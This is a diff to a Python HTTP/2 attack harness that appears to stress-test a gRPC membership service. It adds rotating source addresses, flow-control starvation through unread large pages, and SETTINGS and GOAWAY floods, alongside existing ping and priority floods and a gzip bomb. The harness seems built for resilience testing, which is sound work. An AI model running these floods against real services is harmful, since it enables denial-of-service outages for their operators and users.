@@ -2,11 +2,13 @@
 
     attacks.py NAME HOST:PORT CA SECONDS CONNECTIONS FROM
 
-Each connection comes from the address FROM, does NAME as fast as it can, and is made anew when it
-was cut off. Prints what became of it as JSON: connections opened, refused and cut off, the codes of GOAWAY, the bytes sent.
+Each connection comes from the address FROM (several, with commas, take turns), does NAME as fast as
+it can, and is made anew when it was cut off. Prints what became of it as JSON: connections opened,
+refused and cut off, the codes of GOAWAY, the bytes sent.
 """
 
 import gzip
+import itertools
 import json
 import socket
 import ssl
@@ -24,6 +26,8 @@ PRIORITY, PRIORITY_UPDATE, UNKNOWN = 2, 0x10, 0xee
 PADDED = 8
 GET_MEMBER = '/baliprocess.membership.v1.MembershipService/GetMember'
 LIST_MEMBERS = '/baliprocess.membership.v1.MembershipService/ListMembers'
+LIST_BODIES = '/baliprocess.membership.v1.MembershipService/ListBodies'
+ALL_BODIES = b'\0\0\0\0\3\x10\xe8\x07'  # page_size: 1000
 PORTION = 64 << 10  # what is sent at once
 PAUSE = 0.05  # before another connection
 
@@ -245,6 +249,29 @@ def unread(link):
         frame(DATA, END_STREAM, stream, b'\0\0\0\0\0')
 
 
+def unread_page(link):
+    """A page of a MiB of which nothing is taken."""
+    stream = link.next_stream()
+    return frame(HEADERS, END_HEADERS, stream, head(LIST_BODIES)) + \
+        frame(DATA, END_STREAM, stream, ALL_BODIES)
+
+
+def unread_pages(link, over):
+    link.send(frame(SETTINGS, payload=struct.pack('>HI', 4, 0)))
+    return held(unread_page, 100)(link, over)
+
+
+def unread_socket(link, over):
+    """The windows are wide open, and the socket isn't read."""
+    link.send(frame(SETTINGS, payload=struct.pack('>HI', 4, 1 << 30)) +
+              frame(WINDOW_UPDATE, payload=struct.pack('>I', 1 << 30)))
+    data = b''.join(unread_page(link) for _ in range(100))
+    link.send(data)
+    yield len(data)
+    while not over():
+        time.sleep(0.1)
+
+
 def bad_tokens(link, over):
     token = 'Bearer eyJhbGciOiJFUzI1NiJ9.' + 'e30' * 100 + '.' + 'A' * 86
     while not over():
@@ -256,6 +283,7 @@ def bad_tokens(link, over):
 
 
 SETTING = struct.pack('>HI', 1, 0)
+TABLE_FLIP = struct.pack('>HI', 1, 0) + struct.pack('>HI', 1, 4096)
 WINDOW_FLIP = struct.pack('>HI', 4, 0) + struct.pack('>HI', 4, 65535)
 FLOODS = {
     'ping': repeat(frame(PING, payload=b'12345678')),
@@ -264,6 +292,8 @@ FLOODS = {
     'large_settings': repeat(frame(SETTINGS, payload=SETTING * 2000)),
     'window_flips': repeat(frame(SETTINGS, payload=WINDOW_FLIP),
                            lambda link: b''.join(open_call(link) for _ in range(90))),
+    'table_flips': repeat(frame(SETTINGS, payload=TABLE_FLIP)),
+    'goaway': repeat(frame(GOAWAY, payload=struct.pack('>II', 0, 0)), open_call),
     'window_update': repeat(frame(WINDOW_UPDATE, payload=struct.pack('>I', 1))),
     'priority': repeat(frame(PRIORITY, 0, 1, b'\0\0\0\0\x10'), open_call),
     'priority_update': repeat(frame(PRIORITY_UPDATE, payload=b'\0\0\0\1u=1'), open_call),
@@ -310,6 +340,8 @@ HELD = {
     'unfinished_large': held(unfinished_large),
     'unfinished_small': held(unfinished_small),
     'unread_replies': held(unread),
+    'unread_pages': unread_pages,
+    'unread_socket': unread_socket,
 }
 BOMB = gzip.compress(bytes(32 << 20))
 PACED = {
@@ -328,7 +360,7 @@ class Attack:
         self._name = name
         self._address = address
         self._ca = ca
-        self._source = source
+        self._sources = itertools.cycle(source.split(','))
         self._end = time.monotonic() + seconds
         self._lock = threading.Lock()
         self.result = {'opened': 0, 'refused': 0, 'cut': 0, 'goaways': {}, 'bytes': 0,
@@ -356,9 +388,11 @@ class Attack:
             time.sleep(PAUSE)
 
     def _connect(self):
+        with self._lock:
+            source = next(self._sources)
         if self._name == 'key_updates':
-            return KeyUpdates(connect(self._address, self._source))
-        return Link(self._address, self._ca, self._source)
+            return KeyUpdates(connect(self._address, source))
+        return Link(self._address, self._ca, source)
 
     def _attack(self, link):
         began = time.monotonic()
